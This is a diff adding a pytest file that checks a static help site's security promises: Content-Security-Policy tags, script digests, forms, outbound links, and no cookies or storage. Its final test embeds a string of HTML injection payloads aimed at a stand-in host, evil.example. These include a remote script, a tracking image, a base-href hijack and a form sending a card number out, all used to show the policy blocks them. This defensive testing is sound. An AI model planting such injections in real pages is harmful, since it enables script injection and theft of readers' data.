@@ -1,0 +1,273 @@
+"""Promises about harm: what a page may load, run, send and keep, and where its links lead. See docs/security.md."""
+
+from __future__ import annotations
+
+import re
+from base64 import b64encode
+from collections.abc import Iterator
+from hashlib import sha256
+from urllib.parse import urljoin, urlsplit
+
+import pytest
+from bs4 import Tag
+from playwright.sync_api import Browser, Route
+
+from conftest import Server
+from guide import Settings, build, with_policy
+from guide.load import HOSTS
+from reader import BASE, REPO, Page, Pages
+from samples import ROOT, plain_yaml, small
+
+SEARCH = "search/"
+"""The one page that the theme makes, and that may run a script."""
+POLICY = "meta[http-equiv=Content-Security-Policy]"
+EVIL = "https://evil.example/"
+
+
+@pytest.fixture(scope="module")
+def pages(site: Pages) -> list[Page]:
+    """All pages of the site; and those of the small guide, of which one has moved and one is no more."""
+    return [*site.values(), *Pages(small_site()).values()]
+
+
+def small_site() -> dict[str, str]:
+    files = small(
+        lambda text: (
+            text.replace("    title: Ask support\n", "    title: Ask support\n    redirect_from: [ask-the-seller]\n")
+            + "\nretired:\n  ask-the-shop: {title: Ask the shop, because: It is closed., next: ask-support}\n"
+        )
+    )
+    made = build(files, Settings(site_url=BASE)).files
+    return {f"small/{path}": html for path, html in made.items() if path.endswith(".html")}
+
+
+def digest(text: str) -> str:
+    return f"'sha256-{b64encode(sha256(text.encode()).digest()).decode()}'"
+
+
+# --- What the pages say ---
+
+
+def test_every_page_says_first_what_a_browser_may_load_and_run(pages: list[Page]) -> None:
+    """The policy of a finished page allows its one style, its icon and the search form. Only “charset” stands first."""
+    for page in pages:
+        charset, policy, *_ = page.soup.select("head > *")
+        assert charset.get("charset") == "utf-8", page.path
+        assert page.soup.select(POLICY) == [policy], page.path
+        assert page.soup.select("[style]") == [], page.path
+        if page.path != SEARCH:
+            (style,) = page.soup.select("style")
+            assert policy["content"] == (
+                f"default-src 'none';style-src {digest(style.get_text())};img-src data:;"
+                "form-action 'self';base-uri 'none'"
+            ), page.path
+
+
+THEME = [
+    "'sha256-/K9p2JtEqCycL2fSbEonMakkteWpAHv57x2wndLqMNo='",
+    "'sha256-DrEMJJ29sL7vIloQzly+VUGMxKcBTMII+OfW7Y8AkG4='",
+    "'sha256-/8wPdzX9q0NNJXyA5lzsLojXFpkeaXVxhbfkUOQaWy8='",
+]
+"""The inline scripts of Material's page, in their order. After an update of Material read the new ones before they go
+in here: a digest that nobody knows may come from a contributor."""
+
+
+def test_the_search_page_runs_the_scripts_of_the_theme_and_no_others(site: Pages) -> None:
+    page = site[SEARCH]
+    scripts = page.soup.select("script:not([src], [type='application/json'])")
+    assert [digest(script.get_text()) for script in scripts] == THEME
+    loaded = [str(script["src"]) for script in page.soup.select("script[src]")]
+    assert [re.sub(r"\.\w{8}\.", ".", path) for path in loaded] == ["../assets/javascripts/bundle.min.js"]
+    (policy,) = page.soup.select(POLICY)
+    (style,) = page.soup.select("style")
+    assert policy["content"] == (
+        f"default-src 'none';script-src 'self' {' '.join(THEME)};style-src 'self' {digest(style.get_text())};"
+        "img-src 'self' data:;connect-src 'self';worker-src 'self';form-action 'none';base-uri 'none'"
+    )
+
+
+def test_what_somebody_types_into_the_text_of_the_search_page_is_not_in_its_policy() -> None:
+    typed = "<script>steal()</script><style>h1{display:none}</style>"
+    page = f'<head><meta charset="utf-8"><script>own()</script></head>{typed}<style>p{{}}</style>'
+    (policy,) = re.findall('content="([^"]*)"', with_policy(page, typed))
+    assert re.findall("'sha256-.*?'", policy) == [digest("own()"), digest("p{}")]
+
+
+def test_no_page_tells_another_site_where_its_readers_come_from(pages: list[Page]) -> None:
+    for page in pages:
+        assert page.soup.select("meta[name=referrer][content=no-referrer]"), page.path
+
+
+def test_no_page_holds_a_form_but_the_search(site: Pages) -> None:
+    for page in site.values():
+        for form in page.soup.select("form"):
+            fields = [str(field.get("name")) for field in form.select("input, select, textarea")]
+            if page.path == SEARCH:
+                assert (form.get("action"), fields) == (None, ["query"])
+            else:
+                assert urljoin(BASE + page.path, str(form["action"])) == BASE + SEARCH, page.path
+                assert (form.get("method", "get"), fields) == ("get", ["q"]), page.path
+
+
+def test_no_page_sends_its_readers_away_by_itself(site: Pages) -> None:
+    """A page that has moved may, to a page of the site. A policy cannot stop the others."""
+    for page in site.values():
+        for tag in page.soup.select("meta[http-equiv=refresh i]"):
+            target = str(tag["content"]).partition("url=")[2]
+            assert urljoin(BASE + page.path, target).startswith(BASE), page.path
+
+
+# --- Links to other sites ---
+
+
+def outside_links(page: Page) -> Iterator[tuple[str, Tag]]:
+    """The host of each link to another site, and the link."""
+    for link in page.soup.select("a[href]"):
+        address = urlsplit(urljoin(BASE + page.path, str(link["href"])))
+        if address.scheme != "mailto" and address.netloc != urlsplit(BASE).netloc:
+            yield address.netloc, link
+
+
+def test_a_link_to_another_site_shows_its_host_and_tells_it_nothing(site: Pages) -> None:
+    """The links below a step, which all lead to the repository, share one mark before them."""
+    found = 0
+    for page in site.values():
+        for host, link in outside_links(page):
+            marked = link.parent if "feedback" in (link.parent or link).get("class", []) else link
+            assert host in (marked or link).get_text(), (page.path, link)
+            assert link.get("rel") == ["noopener", "noreferrer"], (page.path, link)
+            assert not link.get("target"), (page.path, link)
+            found += 1
+    assert found > 1000
+
+
+def test_a_text_links_only_to_hosts_on_the_list(site: Pages) -> None:
+    """No rule looks at hand-written pages, so this test does. Sources and bodies of countries may be anywhere."""
+    allowed = {*plain_yaml((ROOT / HOSTS).read_text(encoding="utf-8"))["hosts"], urlsplit(REPO).netloc}
+    for page in site.values():
+        for host, link in outside_links(page):
+            source = "source" in link.get("class", []) or page.path.startswith("countries/")
+            assert source or host in allowed, (page.path, link)
+
+
+# --- What a browser does ---
+
+WALK = [
+    "",
+    "first-aid/",
+    "about/",
+    "contributing/",
+    "steps/what-does-the-order-page-say/",
+    "steps/how-did-you-pay/#promised.long.asked",
+    "steps/ask-your-bank-to-trace-the-refund/#completed.long.card.in-use",
+    "steps/",
+    "flow/",
+    "print/",
+    "map/",
+    "map/completed/",
+    "dates/",
+    "dates/us-credit-card-missing-credit/",
+    "countries/",
+    "countries/france/",
+    "messages/",
+    "phrases/",
+    "dead-ends/",
+    "404.html",
+    "small/steps/ask-the-shop/",
+]
+"""Each kind of page. The last one is of the small guide: a step that is no more."""
+
+
+def test_no_page_breaks_its_policy_asks_another_host_or_keeps_anything_on_the_device(
+    chromium: Browser, server: Server
+) -> None:
+    """With scripts on; in the search a reader types. Chromium writes to the console what a policy stops."""
+    context = chromium.new_context()
+    asked: list[str] = []
+    said: list[str] = []
+    context.on("request", lambda request: asked.append(request.url))
+    context.on("console", lambda message: said.append(f"{message.page.url if message.page else ''}: {message.text}"))
+    context.on("weberror", lambda error: said.append(str(error.error)))
+    moved = small_site()
+
+    def answer(route: Route) -> None:
+        path = urlsplit(route.request.url).path.removeprefix(urlsplit(server.base).path)
+        route.fulfill(body=moved[f"{path}index.html"], content_type="text/html; charset=utf-8")
+
+    context.route("**/small/**", answer)
+    page = context.new_page()
+    for path in WALK:
+        page.goto(server.url(path))
+        assert page.locator(POLICY).count() == 1, path
+    page.goto(server.url("small/steps/ask-the-seller/"))
+    page.wait_for_url("**/ask-support/")
+    page.goto(server.url("search/?q=appeal"))
+    found = page.locator(".md-search-result__item").first
+    found.wait_for()
+    page.keyboard.type(" refund")
+    page.locator("input[data-md-component=search-query]").press("Control+a")
+    page.keyboard.type("nothing-like-it")
+    page.keyboard.press("Enter")
+    page.wait_for_load_state("networkidle")
+
+    assert said == []
+    assert {urlsplit(url).netloc for url in asked if not url.startswith("data:")} == {urlsplit(server.base).netloc}
+    assert context.cookies() == []
+    assert context.storage_state(indexed_db=True) == {"cookies": [], "origins": []}
+    page.goto(server.url("about/"))
+    assert page.evaluate(
+        """async () => [localStorage.length, sessionStorage.length, await indexedDB.databases(), await caches.keys(),
+        await navigator.serviceWorker.getRegistrations()]"""
+    ) == [0, 0, [], [], []]
+    context.close()
+
+
+SMUGGLED = f"""
+<script>document.title += " inline"</script>
+<script src="{EVIL}a.js"></script>
+<script src="data:text/javascript,document.title += ' data'"></script>
+<svg onload="document.title += ' handler'"></svg>
+<iframe srcdoc="<script>parent.document.title += ' frame'</script>"></iframe>
+<img src="{EVIL}seen.png" alt="">
+<style>@import "{EVIL}a.css"; h1 {{ position: fixed; inset: 0 }}</style>
+<base href="{EVIL}">
+<form action="{EVIL}card"><input name="card" value="1234"></form>
+"""
+"""Ways to harm a reader, if somebody could put HTML into a page."""
+HARM = {"inline", "data", "handler", "frame", "a.js", "seen.png", "a.css", "card", "base", "style"}
+
+
+def harm(chromium: Browser, url: str, *, policy: bool) -> set[str]:
+    """What SMUGGLED manages to do in a copy of a page, with its policy or without."""
+    context = chromium.new_context()
+    done: set[str] = set()
+
+    def answer(route: Route) -> None:
+        address = route.request.url
+        if address.startswith(EVIL):
+            done.add(urlsplit(address).path[1:])
+            route.fulfill(body="", headers={"Access-Control-Allow-Origin": "*"})
+        elif address == url:
+            html = route.fetch().text()
+            html = html if policy else re.sub(r"<meta http-equiv=.Content-Security-Policy.[^>]*>", "", html)
+            route.fulfill(body=html.replace("</h1>", f"</h1>{SMUGGLED}", 1), content_type="text/html; charset=utf-8")
+        else:
+            route.continue_()
+
+    context.route("**/*", answer)
+    page = context.new_page()
+    page.goto(url)
+    done |= set(page.title().split())
+    done |= {"base"} if page.evaluate("document.baseURI") == EVIL else set()
+    done |= {"style"} if page.locator("h1").evaluate("h1 => getComputedStyle(h1).position") == "fixed" else set()
+    page.evaluate("document.querySelector('form[action*=evil]').submit()")
+    page.wait_for_timeout(200)
+    context.close()
+    return done & HARM
+
+
+@pytest.mark.parametrize("path", ["", "steps/how-did-you-pay/", SEARCH])
+def test_html_that_somebody_smuggles_into_a_page_does_nothing(chromium: Browser, server: Server, path: str) -> None:
+    """Without the policy it would do all of it."""
+    assert harm(chromium, server.url(path), policy=False) == HARM
+    assert harm(chromium, server.url(path), policy=True) == set()
